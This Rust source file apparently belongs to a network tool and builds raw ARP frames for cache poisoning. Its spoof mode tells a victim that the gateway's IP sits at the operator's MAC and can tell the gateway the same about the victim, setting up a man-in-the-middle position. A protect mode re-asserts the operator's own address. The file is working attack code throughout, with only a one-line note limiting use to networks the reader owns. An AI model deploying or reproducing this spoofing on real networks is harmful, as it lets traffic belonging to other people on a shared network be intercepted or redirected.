//! ARP frame construction for spoofing and self-protection.
//!
//! # How it works
//!
//! 1. Spoof frames poison a victim's cache so traffic for the gateway lands
//!    on our MAC; when the victim is also redirected, a second frame poisons
//!    the gateway's cache for the victim's address.
//! 2. Spoofing uses unsolicited ARP *requests*: most stacks accept them and
//!    refresh their cache more reliably than they do for unsolicited replies.
//! 3. Protection frames are ARP *responses* re-asserting the true mapping of
//!    our own address toward the victim and the gateway, countering a third
//!    party spoofing us.
//!
//! # Security Note
//!
//! This technique requires elevated privileges and should only be used on
//! networks you own or manage.

use std::net::Ipv4Addr;

use pnet::packet::arp::{ArpHardwareTypes, ArpOperation, ArpOperations, MutableArpPacket};
use pnet::packet::ethernet::{EtherTypes, MutableEthernetPacket};
use pnet::util::MacAddr;

/// Size of an ARP packet payload.
const ARP_PACKET_SIZE: usize = 28;

/// Size of an Ethernet frame with ARP payload.
pub const ARP_FRAME_SIZE: usize = 14 + ARP_PACKET_SIZE;

/// Which mapping an ARP emission asserts.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ArpAssertion {
    /// Poison the victim's cache (and the gateway's, when redirected).
    Spoof,
    /// Re-assert the true mapping of the operator's own address.
    Protect,
}

/// The device one assertion round is aimed at.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct SpoofTarget {
    pub ip: Ipv4Addr,
    pub mac: MacAddr,
    /// Whether the gateway-facing spoof frame is emitted too.
    pub redirected: bool,
}

/// Builds the ARP frames for spoof and protection assertions.
#[derive(Debug, Clone)]
pub struct ArpFrameBuilder {
    our_mac: MacAddr,
    local_ip: Ipv4Addr,
    gateway_ip: Ipv4Addr,
    gateway_mac: MacAddr,
}

impl ArpFrameBuilder {
    pub const fn new(
        our_mac: MacAddr,
        local_ip: Ipv4Addr,
        gateway_ip: Ipv4Addr,
        gateway_mac: MacAddr,
    ) -> Self {
        Self {
            our_mac,
            local_ip,
            gateway_ip,
            gateway_mac,
        }
    }

    /// Build the frames one assertion emits for one device, in send order.
    pub fn frames_for(&self, assertion: ArpAssertion, target: &SpoofTarget) -> Vec<Vec<u8>> {
        match assertion {
            ArpAssertion::Spoof => {
                // Tell the victim: "gateway IP is at OUR MAC".
                let victim = build_frame(
                    ArpOperations::Request,
                    self.our_mac,
                    target.mac,
                    self.our_mac,
                    self.gateway_ip,
                    target.mac,
                    target.ip,
                );

                if target.redirected {
                    // Tell the gateway: "victim IP is at OUR MAC".
                    let gateway = build_frame(
                        ArpOperations::Request,
                        self.our_mac,
                        self.gateway_mac,
                        self.our_mac,
                        target.ip,
                        self.gateway_mac,
                        self.gateway_ip,
                    );
                    vec![victim, gateway]
                } else {
                    vec![victim]
                }
            }
            ArpAssertion::Protect => {
                // Correction responses carry the true "local IP is at OUR
                // MAC" mapping, with the frame-level addresses inverted
                // relative to spoof frames.
                let gateway = build_frame(
                    ArpOperations::Reply,
                    self.gateway_mac,
                    self.our_mac,
                    self.our_mac,
                    self.local_ip,
                    self.gateway_mac,
                    self.gateway_ip,
                );
                let victim = build_frame(
                    ArpOperations::Reply,
                    target.mac,
                    self.our_mac,
                    self.our_mac,
                    self.local_ip,
                    target.mac,
                    target.ip,
                );
                vec![gateway, victim]
            }
        }
    }
}

/// Build one Ethernet frame carrying one ARP packet.
#[allow(clippy::too_many_arguments)]
fn build_frame(
    operation: ArpOperation,
    ether_source: MacAddr,
    ether_dest: MacAddr,
    sender_mac: MacAddr,
    sender_ip: Ipv4Addr,
    target_mac: MacAddr,
    target_ip: Ipv4Addr,
) -> Vec<u8> {
    let mut buffer = vec![0u8; ARP_FRAME_SIZE];

    // Ethernet header
    {
        let mut ethernet = MutableEthernetPacket::new(&mut buffer).unwrap();
        ethernet.set_destination(ether_dest);
        ethernet.set_source(ether_source);
        ethernet.set_ethertype(EtherTypes::Arp);
    }

    // ARP payload
    {
        let mut arp = MutableArpPacket::new(&mut buffer[14..]).unwrap();
        arp.set_hardware_type(ArpHardwareTypes::Ethernet);
        arp.set_protocol_type(EtherTypes::Ipv4);
        arp.set_hw_addr_len(6);
        arp.set_proto_addr_len(4);
        arp.set_operation(operation);
        arp.set_sender_hw_addr(sender_mac);
        arp.set_sender_proto_addr(sender_ip);
        arp.set_target_hw_addr(target_mac);
        arp.set_target_proto_addr(target_ip);
    }

    buffer
}
